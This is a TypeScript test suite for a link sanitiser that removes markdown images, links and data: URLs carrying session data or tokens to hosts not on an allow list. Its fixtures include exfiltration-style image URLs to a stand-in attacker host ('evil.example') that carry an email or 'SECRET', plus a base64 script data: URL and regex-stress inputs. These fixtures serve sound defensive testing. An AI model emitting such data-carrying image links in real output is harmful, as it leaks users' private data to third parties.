import { test } from 'node:test';
import assert from 'node:assert/strict';
import fc from 'fast-check';
import { neutraliseLinks, type LinkPolicy } from './links.ts';

const policy: LinkPolicy = { allowedHosts: ['docs.example.com'], carriesData: (text) => /@|DE\d{2}/.test(text) };

test('a markdown image whose URL carries session data is removed; the report says why, never the URL', () => {
  const text = 'Done. ![status](https://evil.example/p.png?u=ada@lovelace.example) thanks';
  const out = neutraliseLinks(text, policy);
  assert.equal(out.text, 'Done. [image removed: status] thanks');
  assert.deepEqual(out.report, { count: 1, images: 1, data_urls: 0, neutralised: 1, exfiltration: true, hosts: ['evil.example'] });
});

test('data: URLs are neutralised in every form; images to hosts not allowed are removed even without data', () => {
  const out = neutraliseLinks('a ![x](data:image/png;base64,AAAA) b <img src="data:text/html,hi"> c data:text/plain,secret d ![y](https://cdn.other.example/logo.png)', policy);
  assert.ok(!out.text.includes('data:'), out.text);
  assert.ok(!out.text.includes('cdn.other.example'), out.text);
  assert.equal(out.report.data_urls, 3);
  assert.equal(out.report.neutralised, 4);
});

test('links to allowed hosts carrying nothing stay; an opaque token or data in any part of a URL removes it', () => {
  const keep = 'See [the guide](https://docs.example.com/guide/setup) and https://docs.example.com/faq';
  assert.equal(neutraliseLinks(keep, policy).text, keep);
  assert.equal(neutraliseLinks(keep, policy).report.neutralised, 0);
  for (const url of [
    'https://docs.example.com/x?t=QUJDREVGR0hJSktMTU5PUFFSU1RVVldYWVo0NTY3',
    'https://other.example/a/ada%40lovelace.example',
    'https://other.example/#DE89370400440532013000',
  ]) {
    const out = neutraliseLinks(`click [here](${url}) now`, policy);
    assert.equal(out.text, 'click here [link removed] now', url);
    assert.equal(out.report.exfiltration, true);
  }
});

test('property: no data: URL and no URL carrying an email survives, whatever the markup', () => {
  const carrier = fc.oneof(
    fc.constant('data:text/html;base64,PHNjcmlwdD4='),
    fc.stringMatching(/^[a-z]{1,8}$/).map((u) => `https://x${u}.example/c?e=${u}%40corp.example`),
  );
  const wrap = fc.constantFrom(
    (u: string) => `![i](${u})`,
    (u: string) => `[l](${u})`,
    (u: string) => `<img src="${u}">`,
    (u: string) => `<a href='${u}'>x</a>`,
    (u: string) => `<img src=${u}>`,
    (u: string) => ` ${u} `,
    (u: string) => `![a [b] c](${u})`,
    (u: string) => `[a\nb](${u} "t")`,
    (u: string) => `![i](<${u}>)`,
    (u: string) => `[![i](${u})](https://docs.example.com/x)`,
    (u: string) => `[a \\] b](${u})`,
    (u: string) => `(${u})`,
  );
  fc.assert(
    fc.property(fc.array(fc.tuple(fc.stringMatching(/^[A-Za-z ]{0,20}$/), carrier, wrap), { minLength: 1, maxLength: 5 }), (parts) => {
      const text = parts.map(([pre, url, w]) => pre + w(url)).join(' ');
      const out = neutraliseLinks(text, policy);
      assert.ok(!/data:/i.test(out.text), out.text);
      assert.ok(!out.text.includes('%40corp.example'), out.text);
      assert.equal(out.report.exfiltration, true);
    }),
    { numRuns: 300 },
  );
});

test('markdown as renderers read it: nested brackets, line breaks, escapes, pointed destinations, titles, an image inside a link', () => {
  const strict: LinkPolicy = { allowedHosts: ['docs.example.com'], carriesData: (text) => text.includes('SECRET') };
  const cases: Array<[string, string]> = [
    ['![x [y] z](https://evil.example/p.png?q=SECRET)', '[image removed: x [y] z]'],
    ['[a [b] c](https://evil.example/?q=SECRET)', 'a [b] c [link removed]'],
    ['![x\ny](https://evil.example/p.png)', '[image removed: x\ny]'],
    ['![x](<https://evil.example/a b.png>)', '[image removed: x]'],
    ["![x]( https://evil.example/p.png 'title' )", '[image removed: x]'],
    ['![x](https://evil.example/p(1).png?q=SECRET)', '[image removed: x]'],
    ['[a \\] b](https://evil.example/?q=SECRET)', 'a \\] b [link removed]'],
    ['[![i](https://evil.example/i.png)](https://docs.example.com/a)', '[[image removed: i]](https://docs.example.com/a)'],
    ['[![i](https://docs.example.com/i.png)](https://evil.example/?q=SECRET)', '![i](https://docs.example.com/i.png) [link removed]'],
    // An escaped "!" makes a link, not an image; a link to any host that carries nothing stays.
    ['\\![x](https://evil.example/p.png)', '\\![x](https://evil.example/p.png)'],
    // An unquoted attribute is an attribute: the image is removed, the link kept when it carries nothing.
    ['<img src=https://evil.example/p.png> <a href=https://evil.example/a>x</a>', '<img src=#removed> <a href=https://evil.example/a>x</a>'],
    // GitHub autolinks a URL after a parenthesis: it is judged like any bare URL.
    ['see (https://evil.example/?q=SECRET) here', 'see ([link removed]) here'],
  ];
  for (const [text, expected] of cases) assert.equal(neutraliseLinks(text, strict).text, expected, text);
  const kept = neutraliseLinks('[ok](https://docs.example.com/a) and https://docs.example.com/b', strict);
  assert.deepEqual(kept.report, { count: 2, images: 0, data_urls: 0, neutralised: 0, exfiltration: false, hosts: [] });
});

// 200,000 characters of each unit: the scan's time limit is the bound, not a measured duration.
test('link scanning is linear on hostile input', { timeout: 60_000 }, () => {
  for (const unit of ['[', '](', '[a](', '![a](<x', '[a](((', '[a](x (', '[a](x "', '\\[', '[' + 'a'.repeat(600), '[a](' + 'x'.repeat(5000), '<img src="', '<img src=', 'src=x', 'http://']) {
    const text = unit.repeat(Math.ceil(200_000 / unit.length));
    assert.equal(typeof neutraliseLinks(text, policy).text, 'string');
  }
});
